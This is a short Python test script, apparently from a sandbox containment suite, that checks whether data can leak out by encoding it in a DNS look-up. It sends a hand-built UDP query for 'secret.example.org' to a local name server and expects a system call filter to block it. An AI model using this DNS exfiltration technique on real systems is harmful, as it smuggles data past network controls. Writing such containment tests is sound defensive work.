"""Hide what was found out in the name of a look-up; name servers are reachable where nothing else is.

Expected: error PermissionError
Stopped by: system call filter, namespaces
"""

import socket

query = b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\7example\3org\0\0\1\0\1"
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("127.0.0.1", 53))
raise SystemExit("through: asked")
